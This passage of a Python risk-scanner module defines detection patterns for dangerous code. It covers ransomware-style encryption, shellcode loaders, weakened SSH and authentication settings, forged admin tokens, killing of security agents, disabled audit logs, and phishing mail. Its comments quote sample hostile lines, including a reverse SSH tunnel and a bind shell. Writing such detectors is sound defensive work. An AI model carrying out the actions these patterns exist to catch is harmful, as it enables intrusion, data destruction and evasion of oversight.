                            rf"{_TELEMETRY_SDK}")  # fmt: skip
_SUPERVISOR_STOPPED = re.compile(r"\bsupervisor\.(?:stopAllProcesses|shutdown)\(")
#: The ssh server told to let root or empty passwords in (an edit of sshd_config by sed or by a written line).
_SSHD_OPENED = re.compile(r"(?:PermitEmptyPasswords|PermitRootLogin)[^\n]{0,80}?\byes\b")
_SSHD_WRITTEN = re.compile(r"\bsed\s+(?:[^\n]*\s)?-[a-zA-Z]*i\b|--in-place|>>?\s*[\"']?\S*sshd_config"
                           r"|\btee\b[^\n]*sshd_config|open\([^)]*sshd_config[^)]*[\"'][wa]")  # fmt: skip
#: Every user's home directory deleted from the account database (`for e in pwd.getpwall(): rmtree(e.pw_dir)`).
_EVERY_HOME_DELETED = re.compile(r"getpwall\(\)[\s\S]{0,400}?rmtree\([^)]*pw_dir")
#: The Gradle wrapper pointed at a distribution outside Gradle's own servers (every build runs it).
_FOREIGN_GRADLE = re.compile(r"distributionUrl=(?:[^\n]*?)https?\\*://(?!services\.gradle\.org)[\w.-]+")
#: Machine code loaded into executable memory and started (a shellcode loader), from a download.
_SHELLCODE_RUN = re.compile(r"\bVirtualAlloc(?:Ex)?\b[\s\S]{0,800}?\b(?:CreateThread|CreateRemoteThread|QueueUserAPC"
                            r"|EnumSystemLocalesA?)\b")  # fmt: skip
_FETCHED_BYTES = re.compile(r"\burlopen\(|\brequests\.get\(|\.recv\(|DownloadData|\burlretrieve\(")
#: ysoserial run to build a gadget chain (a serialized object that runs a command when read).
_YSOSERIAL = re.compile(r"\bysoserial[\w.-]*\.jar\b|\bysoserial\s+\w+")
#: sudoedit given an editor variable with ` -- ` and a file after it: the file is opened as root too.
_SUDOEDIT_EDITOR = re.compile(r"\b(?:SUDO_EDITOR|VISUAL|EDITOR)=[\"']?[^\"'\n]*\s--\s+/[^\"'\n]*[\"']?\s+"
                              r"(?:\S+=\S+\s+)*(?:sudoedit|sudo\s+-e|sudo\s+--edit)\b")  # fmt: skip
#: Bazel's remote cache, executor or event service set to a bare address (`--remote_cache=grpc://203.0.113.7:9092`).
#: Entries of a remote build cache overwritten by hand (Bazel's action cache `/ac/` and content store `/cas/`).
_CACHE_ENTRY_PUT = re.compile(r"(?:-X\s*PUT|--upload-file|-T\s|requests\.put\()[^\n]*/ac/|/ac/[^\n]*(?:-X\s*PUT|-T\s)")
#: A data share's files queried and the rows written straight to remote storage (DuckDB's `COPY (…) TO 's3://…'`).
SHARE_FILE_QUERY = re.compile(r"read_(?:parquet|csv\w*|json\w*)\(\s*\[?\s*'(?:/mnt|/srv|/data|/media|/net)/")
_COPY_TO_REMOTE = re.compile(r"\bCOPY\s*\([\s\S]{0,600}?\)\s*TO\s*'(?:s3|gs|gcs|az|abfss?|r2|https?)://", re.I)
_FOREIGN_BUILD_CACHE = re.compile(r"--(?:remote_cache|remote_executor|remote_downloader|bes_backend)=(?:grpcs?|https?)"
                                  r"://(\d{1,3}(?:\.\d{1,3}){3})")  # fmt: skip
#: Firebase security rules open to everyone: `allow read, write: if true;` (Firestore, Storage) and the Realtime
#: Database's `".read": true, ".write": true` at its root.
_OPEN_DATABASE_RULES = re.compile(
    r"match\s+/\{(?:document|allPaths)=\*\*\}\s*\{\s*allow\s+read\s*,\s*write\s*(?::\s*if\s+true\s*)?;"
    r"|[\"']rules[\"']\s*:\s*\{\s*[\"']\.read[\"']\s*:\s*true\s*,\s*[\"']\.write[\"']\s*:\s*true\b"
)


#: The clipboard written (pyperclip, Tk, xclip/xsel, pbcopy, wl-copy) and a cryptocurrency address pattern.
_CLIPBOARD_WRITE = re.compile(r"pyperclip\.copy\(|clipboard_append\(|setClipboardText|SetClipboardData"
                              r"|\bxclip\b[^\n]*-i|\bxsel\b[^\n]*(?:-i|--input)|\bpbcopy\b|\bwl-copy\b")  # fmt: skip
_WALLET_ADDRESS = re.compile(r"\(bc1\||bc1\|\[13\]|\^0x\[a-fA-F0-9\]\{40\}|0x\[0-9a-fA-F\]\{40\}"
                             r"|\[13\]\[a-km-zA-HJ-NP-Z1-9\]")  # fmt: skip
#: GUI automation pressing select-all, then the permanent-delete keys.
_SELECT_ALL = re.compile(r"ctrl\+a\b|[\"']ctrl[\"']\s*,\s*[\"']a[\"']", re.I)
_PERMANENT_DELETE_KEYS = re.compile(r"shift\+delete|[\"']shift[\"']\s*,\s*[\"']delete[\"']", re.I)
#: An API gateway's plugins listed and the authentication or access ones deleted (Kong's admin API).
_GATEWAY_AUTH_REMOVED = re.compile(r"(?:key-auth|basic-auth|jwt|oauth2|acl|ip-restriction|rate-limiting)[\s\S]{0,400}?"
                                   r"(?:\.delete\(|-X\s*DELETE)|(?:\.delete\(|-X\s*DELETE)[\s\S]{0,400}?"
                                   r"(?:key-auth|basic-auth|ip-restriction)", re.I)  # fmt: skip
#: A token signed with claims that make its bearer an administrator, with a secret read out of a file.
_FORGED_ADMIN_TOKEN = re.compile(r"[\"'](?:role|roles|scope|is_admin|admin)[\"']\s*:\s*[\[\"']*"
                                 r"(?:super_?admin|admin|owner|root|True)\b[\s\S]{0,300}?jwt\.encode\("
                                 r"|jwt\.encode\([^)]{0,200}?[\"'](?:role|roles|scope|is_admin|admin)[\"']\s*:\s*[\[\"']*"
                                 r"(?:super_?admin|admin|owner|root|True)\b", re.I)  # fmt: skip
_SECRET_FROM_FILE = re.compile(r"open\([^)]*\)\.read\(\)[\s\S]{0,200}?secret|secret[\w\s]*=\s*[^\n]*open\(")
#: A gist created public, with files read into it.
_PUBLIC_GIST = re.compile(r"api\.github\.com/gists[\s\S]{0,300}?[\"']public[\"']\s*:\s*(?:True|true)"
                          r"|[\"']public[\"']\s*:\s*(?:True|true)[\s\S]{0,300}?api\.github\.com/gists")  # fmt: skip
_READS_FILES = re.compile(r"\bopen\([^)]*\)\.read\(|\.read_text\(|\.read_bytes\(")
#: A thousand connections or more opened in a loop and kept in a list.
_HELD_CONNECTIONS = re.compile(r"range\(\s*\d{4,}\s*\)[\s\S]{0,400}?(?:create_connection\([\s\S]{0,400}?\.append\("
                               r"|\.append\([^\n]*create_connection\()"
                               # database sessions opened without end and kept (`held.append(db.connect(…))`)
                               r"|\bwhile\s+True\s*:[\s\S]{0,200}?\.append\(\s*[\w.]+\.connect\(")  # fmt: skip
#: Keystrokes and clicks injected (pyautogui, pynput's controllers), and a server listening on every interface.
_INPUT_INJECTION = re.compile(r"pyautogui\.(?:write|typewrite|hotkey|press|click|moveTo|keyDown)\("
                              r"|(?:keyboard|mouse)\.Controller\(")  # fmt: skip
_SERVES_EVERYWHERE = re.compile(r"(?:TCPServer|UDPServer|HTTPServer|\.bind|websockets\.serve|\.run)\(\s*\(?\s*"
                                r"[\"'](?:0\.0\.0\.0|)[\"']|host\s*=\s*[\"']0\.0\.0\.0[\"']")  # fmt: skip
#: Accessibility roles of other applications' text: terminals, password fields, documents.
_SCREEN_TEXT_ROLES = re.compile(r"ROLE_(?:PASSWORD_TEXT|TERMINAL)\b")
#: An exclusive transaction opened and then a wait that never ends (`sleep infinity`, `while True: sleep`).
_EXCLUSIVE_LOCK_HELD = re.compile(r"BEGIN\s+EXCLUSIVE[\s\S]{0,300}?(?:sleep\s+infinity"
                                  r"|while\s+True\s*:\s*\n?\s*time\.sleep|while\s+true;\s*do\s+sleep)",
                                  re.I)  # fmt: skip
#: Random blobs inserted by a recursive query with no LIMIT, or in an endless loop.
_ENDLESS_BLOBS = re.compile(r"WITH\s+RECURSIVE(?:(?!LIMIT)[\s\S]){0,200}?randomblob"
                            r"|while\s+True\s*:[\s\S]{0,300}?randomblob", re.I)  # fmt: skip
#: An audit log switched off through an API: a request to an `audit` path with `"enabled": false`.
_AUDIT_OFF_REQUEST = re.compile(r"/audit[\w/-]*[\"'\s][^\n]{0,120}?[\"']?(?:enabled|active|logging)[\"']?\s*[:=]\s*"
                                r"(?:False|false|0|[\"']off[\"'])\b")  # fmt: skip
#: A regular expression for card numbers (Visa's 16 digits after a 4, Mastercard's 51-55, Amex's 34/37).
_CARD_NUMBER_PATTERN = re.compile(r"4\\d\{1[25](?:,\d+)?\}|5\[1-5\]\\d\{14\}|3\[47\]\\d\{13\}")
#: A shell variable given a random key (`K=$(head -c 32 /dev/urandom | base64)`, `K=$(openssl rand -hex 32)`).
_RANDOM_KEY = re.compile(r"\b(\w+)=\$\((?:head\s+-c\s*\d+\s+/dev/u?random|openssl\s+rand)\b")
#: Originals deleted after encryption.
_DELETES_FILE = re.compile(r"\b(?:rm|shred|unlink)\s+(?:-\w+\s+)*[\"']?\$")


def forgotten_key_encryption(code: str) -> bool:
    """Files encrypted with a random key held only in a variable (never written to a file, at most sent away)
    and the originals deleted: what a ransomware script does."""
    for key in _RANDOM_KEY.findall(code):
        uses = rf"(?:openssl\s+(?:enc|aes-\S+)|gpg\b|7z\s+a\b)[^\n]*\$\{{?{key}\b"
        kept = rf"\$\{{?{key}\}}?\"?\s*(?:>|\|\s*(?:sudo\s+)?tee\b)"
        if re.search(uses, code) and _DELETES_FILE.search(code) and not re.search(kept, code):
            return True
    return False


#: A modprobe.d `install` or `remove` directive that runs a command instead of (or around) loading a module.
_MODPROBE_INSTALL = re.compile(r"(?m)(?:^|[\"'])\s*(?:install|remove)\s+[\w-]+\s+(?!/bin/(?:true|false)\b)/\S")


#: A substitution that flips a TLS or host-key check from on to off (`self.verify = True` -> `= False`).
_CHECK = r"(?:verify|check_hostname|verify_ssl|ssl_verify|rejectUnauthorized|InsecureSkipVerify|StrictHostKeyChecking)"
_CHECK_FLIPPED = re.compile(_CHECK + r"\w*\s*[=:]\s*(?:True|true|yes)\b[^\n]{0,80}?" + _CHECK
                            + r"\w*\s*[=:]\s*(?:False|false|no|None)\b")  # fmt: skip
#: Where installed libraries' code lives (or how a script finds it: a module's `__file__`).
_LIBRARY_CODE = re.compile(r"__file__|site-packages|dist-packages|node_modules/|\b_?vendor/")


#: A loop over every value of a 16-bit key or PIN space (`range(0x10000)`, `seq 0 65535`, `{0000..9999}`)...
_KEY_SPACE = re.compile(r"range\(\s*(?:0\s*,\s*)?(?:0x10000|65536|0x[fF]{4}\s*\+\s*1|65535\s*\+\s*1|10000|10_000)\s*\)"
                        r"|\bseq\s+(?:-w\s+)?0+\s+(?:65535|9999)\b|\{0+\.\.(?:65535|9999)\}")  # fmt: skip
#: ...that sends each guess to a device or a service and stops at the one accepted.
_SENDS_GUESS = re.compile(r"\.send\(|\bcansend\b|\bsendto\(|\.post\(|\.login\(|\bcurl\b|\.write\([^\n]*\bkey\b")
_STOPS_AT_HIT = re.compile(r"\bbreak\b|\bexit\b|sys\.exit|\breturn\b")


#: Absolute paths spelled in the code, and deletion (Python's, the shell's).
_ABSOLUTE_PATH = re.compile(r"[\"'\s(](/(?:[\w.-]+/)*[\w.-]+)/?[\"'\s)]")
_DELETES = re.compile(r"\.unlink\(|os\.remove\(|\brmtree\(|\brm\s+-\w*[rf]|\bfind\b[^\n]*-delete\b")
#: A clean-up by age (retention) rather than everything.
_BY_AGE = re.compile(r"\b(?:st_mtime|st_ctime|getmtime|getctime|timedelta|days|older)\b|-mtime\b|-mmin\b"
                     # the newest N kept (`sorted(…)[:-14]`, `ls -t | tail -n +8`), or a backup being made
                     r"|\[:-\d+\]|tail\s+-n\s*\+\d|\btarfile\.open\(|\bmake_archive\(|\btar\s+-?c", re.I)  # fmt: skip


def deletes_with_backups(code: str) -> bool:
    """``code`` deletes a data folder and its copy in a backup location (`/mnt/nas/claims` and
    `/mnt/backup/claims`): both the data and the way to restore it, and not a clean-up by age."""
    if ("backup" not in code and "Backup" not in code) or not _DELETES.search(code) or _BY_AGE.search(code):
        return False
    found = [p.lower().split("/")[1:] for p in _ABSOLUTE_PATH.findall(code)]
    backups = {tuple(c[-1:]) for c in found if any("backup" in part for part in c[:-1]) and len(c) >= 2}
    return any(tuple(c[-1:]) in backups for c in found if not any("backup" in part for part in c))


#: A web handler for a password or login form, reading what the user typed into it...
_PASSWORD_FORM = re.compile(r"""\.(?:post|route|api_route)\(\s*["'][^"'\n]*(?:password|passwd|login|signin|sign-in)""",
                            re.I)  # fmt: skip
_FORM_FIELDS = re.compile(r"\brequest\.(?:form|json|get_json|values|POST)\b")
#: ...and sending a mail (to a personal mailbox: `personal_mailbox`).
_SENDS_MAIL = re.compile(r"\bsend_message\(|\bsendmail\(")


#: A settings file in an application's folder under /etc, named in the code.
_ETC_SETTINGS = re.compile(r"/etc/[\w.-]+/[\w.-]+\.(?:toml|ya?ml|json|conf|ini|cfg|properties)\b")
#: A setting that guards something (a login, a check, a limit, an alarm, an approval) set off, emptied, opened
#: to everyone or raised out of reach.
_GUARD_KEY = (r"(?:auth\w*|\w*verif\w*|\w*check\w*|requir\w*|\w*secur\w*|ssl\w*|tls\w*|kill_?switch\w*|enabled"
              r"|\w*limit\w*|pass(?:word)?|mfa\w*|\w*2fa\w*|dual\w*|four_?eyes|\w*approv\w*|\w*alarm\w*"
              r"|\w*alert\w*|notify\w*|report\w*|\w*inhibit\w*|\w*trip\w*|pin\w*|\w*protect\w*|wpa\w*)")
_GUARD_OFF = re.compile(
    r"(?:\b|(?<=\\n))" + _GUARD_KEY
    + r"[\"']?\]?\s*[:=]\s*[\[\"']*\s*(?:False|None|null|0|off|no|\*|0\.0\.0\.0|[\"']{2})(?![\w.])"
    # sed's `s/^\(\s*four_eyes:\).*/\1 false/`: the key kept by a group, its value replaced
    r"|\b" + _GUARD_KEY + r":?\s*\\?\)[^/\n]*/\\1\s*(?:false|0|off|no)\b"
    r"|\b(?:\w*inhibit\w*|\w*disabled?|bypass\w*|skip\w*)[\"']?\s*(?:[:=]|:?\\?\)[^/\n]*/\\1)\s*(?:true|1|yes|on)\b"
    # (`allowguest=no` forbids: an allow-setting opens only when set to everyone)
    r"|\ballow\w*[\"']?\]?\s*[:=]\s*[\[\"']*\s*\*"
    r"|[:=]\s*(?:10\s*\*\*\s*(?:9|1\d)|1e(?:9|1\d))\b|0\.0\.0\.0|/\^(?:wpa|auth|require|verify)\w*/d"
    # Cassandra's authentication and authorization turned off (anyone connecting does anything)
    r"|\bAllowAll(?:Authenticator|Authorizer)\b",
    re.IGNORECASE,
)


#: The settings written back: a file opened for writing, a dump into one, an in-place edit, tee, a redirect.
_WRITES_SETTINGS = re.compile(r"open\([^)]*[\"'][wa]\+?[\"']|\.write(?:_text|_bytes)?\(|\bdump\(|\bsed\s+(?:-\w+\s+)*-i"
                              r"|\btee\b|>>?\s*[\"']?/etc/|\.replace\(\s*\w+\s*,\s*[\"']/etc/")  # fmt: skip


def weakens_app_settings(code: str) -> bool:
    """``code`` rewrites an application's settings under /etc and what it writes turns a guard off (the
    application's own settings are otherwise routine to change: :func:`sandlot.risk.paths.app_settings`)."""
    return (
        any(app_settings(p) for p in _ETC_SETTINGS.findall(code))
        and _WRITES_SETTINGS.search(code) is not None
        and _GUARD_OFF.search(code) is not None
    )


#: A public warning issued as real (CAP `<status>Actual</status>`, `"status": "Actual"`) and sent to an alert
#: gateway or broker (exercises and tests say `Exercise`/`Test`).
_ACTUAL_ALERT = re.compile(r"<status>\s*Actual\s*</status>|[\"']status[\"']\s*:\s*[\"']Actual[\"']")
_ALERT_EVENT = re.compile(r"Warning|Evacuat|Shelter|Civil\s+Emergency|Tsunami|Nuclear|Dam\s+failure|Take\s+cover", re.I)
_ALERT_SENT = re.compile(r"requests\.post\(|\bcurl\b|mosquitto_pub|\.publish\(|httpx\.post\(|urlopen\(")
#: An account put into an administrators' role through a REST path (`/roles/role/ADMIN/user/x`).
_ADMIN_ROLE_PATH = re.compile(r"/roles?/(?:role/)?(?:ROLE_)?(?:ADMIN\w*|administrators?|super_?users?)/users?/", re.I)
#: Layers of geodata deleted from every dataset a walk gives.
_DELETES_LAYERS = re.compile(r"\.DeleteLayer\(|\.delete_layer\(")
#: A raster created with tens of billions of cells (`drv.Create(path, 400000, 400000, …)`).
_HUGE_RASTER = re.compile(r"\.Create\(\s*[^,]+,\s*(\d{5,})\s*,\s*(\d{5,})")
#: A crawler told to send thousands of requests at once.
_CRAWL_FLOOD = re.compile(r"CONCURRENT_REQUESTS(?:_PER_(?:DOMAIN|IP))?[\"']?\s*[:=]\s*(\d{4,})")


#: Nix settings that give away the daemon or the sandbox, evaluation that runs commands, a setuid shell.
_NIX_RISKS = re.compile(
    r"(?P<trust>trusted-users\s*=\s*[^\n]*(?:\*|@users\b|@everyone\b))"
    r"|(?P<sandbox>\bsandbox\s*=\s*false\b)"
    r"|(?P<exec>allow-unsafe-native-code-during-evaluation[\s\S]{0,200}?builtins\.exec|builtins\.exec[\s\S]{0,200}?"
    r"allow-unsafe-native-code-during-evaluation)"
    r"|(?P<wrapper>security\.wrappers\.[\w-]+[\s\S]{0,300}?bin/(?:ba|z|da)?sh\b[\s\S]{0,200}?setuid\s*=\s*true)"
    r"|(?P<sudo>wheelNeedsPassword\s*=\s*false)"
    r"|(?P<sigs>require-sigs[\s\"'=,:]+false|--no-require-sigs)"
)
#: A command's alarm override or alarm switch (`"override_alarm": True`, `"alarms": "off"`), and a command sent.
_ALARM_OVERRIDE = re.compile(
    r"(?:override|disable|bypass|mute|silence)_?alarms?[\"']?\s*[:=]\s*(?:True|true|1)\b"
    r"|[\"']alarms?[\"']\s*:\s*(?:False|false|0|[\"']off[\"'])", re.IGNORECASE
)
_COMMAND_SENT = re.compile(r"\.publish\(|\.(?:post|put|patch)\(|\bmosquitto_pub\b|\bcurl\b")
_CAPACITY_UNITS = re.compile(r"(?:Read|Write)CapacityUnits[\"']?\s*[=:]\s*(\d+)")
#: A folder of files other people send in (uploads, an inbox), named in the code.
_UPLOADED_MODULE = re.compile(r"[\"'][^\"'\n]*/(?:uploads?|user_uploads|incoming|inbox|submissions)(?:/|[\"'])")
#: A token signed with administrator or impersonation claims, and a lifetime of a year or more.
_LONG_LIFETIME = re.compile(
    r"(?:super_?admin|impersonat\w*|platform:admin|\badmin:\*)[\s\S]{0,600}?(?:\d+\s*\*\s*365\b|\b365\s*\*|days\s*=\s*\d{3,}"
    r"|\bexp\W{1,4}\d{11,})|(?:\d+\s*\*\s*365\b|\b365\s*\*|days\s*=\s*\d{3,})[\s\S]{0,600}?(?:super_?admin|impersonat\w*)"
)
_MFA_SKIPPED = re.compile(r"(?:skip|bypass|disable)_?mfa[\"']?\s*[:=]\s*(?:True|true|1)\b", re.IGNORECASE)
#: Second factors switched off for a whole application in its settings (EspoCRM's `'auth2FA' => false`, an
#: organisation's `require_2fa: false`).
_SECOND_FACTORS_OFF = re.compile(
    r"(?:\bauth_?2fa\w*|\b(?:require|enforce|force)\w*?(?:2fa|mfa|two_?factor)\w*"
    # (an environment file's switch, `2FA_ENABLED=false`; not one account's column set in SQL)
    r"|(?<![\w-])(?-i:[A-Z0-9_]*(?:2FA|MFA|TWO_FACTOR)_ENABLED))[\"']?\s*(?:=>|[=:])\s*[\"']?"
    # (not the search side of a sed that turns it back on: `s/'auth2FA' => false/'auth2FA' => true/`)
    r"(?:false|0)\b(?![^\n]*?(?:2fa|mfa|two_?factor))",
    re.IGNORECASE,
)
_EACH_ITEM_REQUEST = re.compile(r"\bfor\s+\w+\s+in\b[\s\S]{0,400}?\.(?:post|put|patch)\(")
#: A Django (or similar) superuser given a literal password.
_SUPERUSER_WITH_PASSWORD = re.compile(
    r"is_superuser\s*=\s*True[\s\S]{0,400}?set_password\(\s*[\"']|set_password\(\s*[\"'][\s\S]{0,400}?"
    r"is_superuser\s*=\s*True|create_superuser\([^)]*password\s*=\s*[\"']"
)
#: Bundler told to fetch gems over plain HTTP (from a bare address) or not to check their checksums.
_GEM_SOURCE_UNVERIFIED = re.compile(
    r"\bsource\s+\\?[\"']http://\d{1,3}(?:\.\d{1,3}){3}|disable_checksum_validation[\"',\s]+true\b"
)
#: An access point brought up (hostapd's settings), and a page asking for a sign-in served beside it.
_ACCESS_POINT = re.compile(r"^\s*ssid=|\bhostapd\b", re.MULTILINE)
_SIGN_IN_PAGE = re.compile(r"sign-?in|login|\bsso\b|o365|office365|okta|creds", re.IGNORECASE)
#: A message's sender and reply address (`msg["From"] = "Dana <ceo@example.com>"`, `Reply-To: …`).
_FROM_ADDRESS = re.compile(r"[\"']?From[\"']?\s*[\]:=]\s*=?\s*[\"'][^\"'\n]*@([\w.-]+)", re.IGNORECASE)
_REPLY_ADDRESS = re.compile(r"[\"']?Reply-To[\"']?\s*[\]:=]\s*=?\s*[\"'][^\"'\n]*@([\w.-]+)", re.IGNORECASE)
_PAYMENT_REQUEST = re.compile(r"\bwire\b|\bIBAN\b|bank details|routing number|gift cards?|new account|payment",
                              re.IGNORECASE)  # fmt: skip


def _replies_elsewhere(code: str) -> bool:
    """The message's replies go to another domain than the one it claims to come from."""
    sender, reply = _FROM_ADDRESS.search(code), _REPLY_ADDRESS.search(code)
    if sender is None or reply is None:
        return False
    return registered_domain(sender[1]) != registered_domain(reply[1])


#: Every account made a superuser through the ORM (`User.objects.filter(is_active=True).update(is_superuser=True)`).
_EVERYONE_SUPERUSER = re.compile(r"\.objects\.(?:all|filter)\([^)]*\)\.update\([^)]*\bis_superuser\s*=\s*True")
#: A loop over everything an API client's manager lists (`for p in redmine.project.all():`), the manager captured.
_EACH_LISTED = re.compile(r"\bfor\s+\w+\s+in\s+([\w.]+)\.all\(\)")
#: What an SDK's `list_<things>` gives, each deleted by its `delete_<thing>` as the loop's first statement (no test
#: first): `for c in client.customers.list_customers().body["customers"]: client.customers.delete_customer(…)`.
_LISTED_EACH_DELETED = re.compile(r"\.list_(\w+?)e?s?\([\s\S]{0,400}?\bfor\b[^\n]*:[ \t]*\n[ \t]*[^\n]*\.delete_\1\(")
#: What a tool's own listing may name, each of which its delete subcommand then removes (`stalwart-cli account
#: list` … `stalwart-cli account delete "$acct"`): whatever the product, every one of them goes.
_LISTED_NOUN = (
    r"(?:accounts?|users?|principals?|mailbox(?:es)?|domains?|groups?|members?|projects?|repos?|repositories|queue"
    r"|messages?|orgs?|organi[sz]ations?|tenants?|teams?|spaces?|boards?|sites?|databases?|buckets?|tables?|indices"
    r"|indexes|collections?|customers?|contacts?|subscribers?|devices?|nodes?|hosts?|zones?|records?|snapshots?"
    r"|backups?|volumes?|keys?|tokens?|secrets?|channels?|rooms?|apps?|applications?|services?|jobs?|pipelines?"
    r"|workspaces?|environments?|clusters?|instances?|vms?|servers?)"
)
#: A tool's options before its subcommand (`-u URL -c admin:$SECRET`).
_TOOL_OPTIONS = r"(?:\s+--?[\w-]+(?:[= ][^\s|;\-][^\s|;]*)?)*"
#: A tool (or the variable holding it, `{CLI}`) listing things of one kind.
_TOOL_LISTS = re.compile(rf"\b([\w][\w.-]*)\}}?{_TOOL_OPTIONS}\s+({_LISTED_NOUN})\s+(?:list|ls)\b")
#: (`rabbitmqctl list_vhosts` … `delete_vhost`, `gvmd --get-users` … `--delete-user=`)
_TOOL_LISTS_UNDERSCORED = re.compile(
    r"\b([\w][\w.-]*)\s+(?:-{1,2}[\w-]+\s+)*(?:list_|--(?:get|list)-)(\w+?)s\b"
)
#: A listing narrowed before anything is deleted (expired, stale or test items; a jq select, a grep, a filter; not a
#: `grep -v` that leaves out one or two).
_NARROWED_LISTING = re.compile(r"select\(|\bgrep\b(?![^\n|]*\s-[a-zA-Z]*v)|--filter|\b(?:expired|stale|older|inactive"
                               r"|dangling|unused|orphan\w*|idle|disabled|test\w*|tmp|temp|scratch|demo)\b",
                               re.IGNORECASE)
_REPEATS = re.compile(r"\bwhile\b|\bfor\b|\bxargs\b|\bparallel\b")
#: An application's encryption key replaced in its settings, whatever it was (`s/^ENCRYPTION_SECRET=.*/…/`, `re.sub(
#: r"^CALENDSO_ENCRYPTION_KEY=.*$", …)`, the line that starts with it rewritten)...
_ENCRYPTION_KEY_REPLACED = re.compile(r"s[/|#]\^?\w*ENCRYPTION_(?:KEY|SECRET)=\.\*|\^\w*ENCRYPTION_(?:KEY|SECRET)=\.\*"
                                      r"|startswith\(\s*[\"']\w*ENCRYPTION_(?:KEY|SECRET)=")
#: ...and the application restarted on it (not a new install's file made from its template, `.env.example`; the
#: rule for secrets given a known value below asks the same).
_RESTARTED_ON_IT = re.compile(r"--force-recreate|\brestart\b|\bup\s+-d\b")
_FROM_TEMPLATE = re.compile(r"\.env\.(?:example|sample|dist|template)")
#: A process frozen with SIGSTOP: it stays listed and looks alive, and does nothing (a recorder, an alarm, a
#: gateway)...
_FROZEN = re.compile(r"\b(?:p?kill|killall)\b[^\n]*?\s-(?:STOP|SIGSTOP|19)\b|\bkill\b[^\n]*?\s-s\s+STOP\b"
                     r"|signal\.SIGSTOP")
#: ...unless it is this script's own job (`$!`, `%1`, its own pid, a pid file of the project: `.run/build.pid`).
_OWN_JOB = re.compile(r"=\s*\$!|%\d|\$\$|\bos\.getpid\(\)|\bcat\s+[\"']?\.{0,2}[\w-]*/[\w./-]*\.pid")
#: Records of who did what switched off: a database's statement or connection logging, a web server's access log, an
#: audit engine. Two of them together is covering tracks, not tuning.
_LOGGING_OFF = re.compile(
    r"(?P<statements>log_statement\s*=\s*\\?'?none)|(?P<connections>log_(?:dis)?connections\s*=\s*\\?'?off)"
    r"|(?P<access>\baccess_log\s+off\b)|(?P<audit>\bSecAuditEngine\s+Off\b|\baudit\w*\s*=\s*(?:off|false|0)\b)",
    re.IGNORECASE,
)
_LOG_SWITCH_WORDS = GateWords("log_statement", "log_connections", "log_disconnections", "access_log", "audit",
                              ignore_case=True)
#: A climate setpoint of 45 °C or more sent to devices (`{"celsius": 45}`, `setpoint: 45` published or posted)...
_SCALDING_SETPOINT = re.compile(r"[\"']?\b(?:\w*setpoint\w*|target_?temp\w*|celsius|temp_?c|heat_?setpoint)[\"']?"
                                r"\s*[:=]\s*[\"']?(?:4[5-9]|[5-9]\d)(?:\.\d+)?\b", re.IGNORECASE)
_SENT_TO_DEVICES = re.compile(r"publish|\.(?:post|put|patch)\(|mosquitto_pub|curl")
_SETPOINT_WORDS = GateWords("setpoint", "target_temp", "targettemp", "celsius", "temp_c", ignore_case=True)
#: ...where animals, plants or stock are kept (an enclosure, a vivarium, a cold store, a greenhouse, an incubator).
_KEPT_ALIVE_OR_COLD = re.compile(
    r"enclosure|vivari|terrari|reptile|cold|fridge|freezer|chill|greenhouse|incubat|aquari", re.IGNORECASE
)
#: PostgreSQL stopped without a clean shutdown (`pg_ctl stop -m immediate`): every session cut off mid-work.
_DATABASE_CRASH_STOP = re.compile(r"\bpg_ctl(?:cluster)?\b[^\n]*\bstop\b[^\n]*(?:-m\s*|--mode[= ])(?:immediate|i)\b")
#: A compose service made privileged (a key set in its YAML, or `svc["privileged"] = True` on the loaded file)...
_COMPOSE_PRIVILEGED = re.compile(r"[\"']privileged[\"']\]?\s*[=:]\s*True|\bprivileged:\s*true")
#: ...with the host's root mounted or its process namespace shared...
_HOST_SHARED = re.compile(r"[\"']/:/[\w/]*[\"']|-\s*/:/|[\"']pid[\"']\]?\s*[=:]\s*[\"']host[\"']|\bpid:\s*[\"']?host")
#: ...and brought up.
_COMPOSE_UP = re.compile(r"compose\b[^\n]*\bup\b|[\"']compose[\"'],[^\n]*[\"']up[\"']")
#: A listener on every interface that runs what it receives as a command, spelled anywhere in the text (a unit
#: file's `ExecStart=python3 -c "…s.bind(('0.0.0.0',7001))…subprocess.run(c.recv(4096),shell=True…"`): a bind shell.
#: A reverse SSH tunnel spelled anywhere (a unit's ExecStart, a compose service's command): `autossh -N -R
#: 27017:mongodb:27017 tunnel@198.51.100.60`, and the address it is held open to.
_REVERSE_TUNNEL = re.compile(
    r"\b(?:auto)?ssh\b[^\n]*?\s-R\s*['\"]?(?:[\d.]+:)?\d+:[\w.-]+:\d+\b[^\n]*?@(\d{1,3}(?:\.\d{1,3}){3})\b"
)
#: Processes of security agents, named (two or more of them: a list of what to end)...
_SECURITY_AGENT = re.compile(r"msmpeng|sentinelagent|csfalcon|sysmon(?:64)?\b|mssense|cbdefense|cylancesvc"
                             r"|elastic-agent|falcon-sensor|\bossec|wazuh-agent|sophos|savservice|ekrn\.exe|mcshield|xagt"
                             r"|taniumclient|cyserver", re.IGNORECASE)
_SECURITY_AGENT_WORDS = GateWords("msmpeng", "sentinelagent", "csfalcon", "sysmon", "mssense", "cbdefense", "cylance",
                                  "elastic-agent", "falcon-sensor", "ossec", "wazuh-agent", "sophos", "savservice",
                                  "ekrn", "mcshield", "xagt", "tanium", "cyserver", ignore_case=True)
#: ...and processes ended (`kill`, `taskkill`, `Stop-Process`, an RMM API's `DELETE …/processes/{pid}/`).
_ENDS_PROCESSES = re.compile(r"\bkill\b|terminate|taskkill|/processes/|stop-process|pkill|killall", re.IGNORECASE)
#: A statement that empties a whole table, alone in its string (`"DELETE FROM order_items"`, `psql -c "TRUNCATE t"`)...
#: (or a line of its own, as a here-document to psql gives it: `TRUNCATE TABLE doc_changes, task_result;`; the name
#: may be a loop's, `f"DELETE FROM {table}"`)
_TABLE_EMPTIED = re.compile(
    r"(?:^[ \t]*|[\"'`][ \t]*|-c\s+[\"'][ \t]*)(?:DELETE\s+FROM\s+|TRUNCATE\s+(?:TABLE\s+)?)"
    r"(?P<table>[\w.\"`]+|\{\w+\})(?:\s*,\s*[\w.\"`]+)*(?:\s+(?:RESTART\s+IDENTITY|CASCADE))*"
    r"(?:\s*;?\s*[\"'`]|\s*;[ \t]*$)",
    re.IGNORECASE | re.MULTILINE,
)
_EMPTYING_WORDS = GateWords("delete from", "truncate", ignore_case=True)
#: ...unless the rows are a test's, a staging load's, a queue's or a cache's, or the code keeps a retention.
_THROWAWAY_ROWS = re.compile(r"(?<![a-z])(?:tests?|dev|tmp|temp|scratch|staging|stg|sandbox|stage|queues?|cache"
                             r"|sessions?|fixtures?|teardown|binlog|retention|older)(?![a-z])|_tmp|tmp_|staging_"
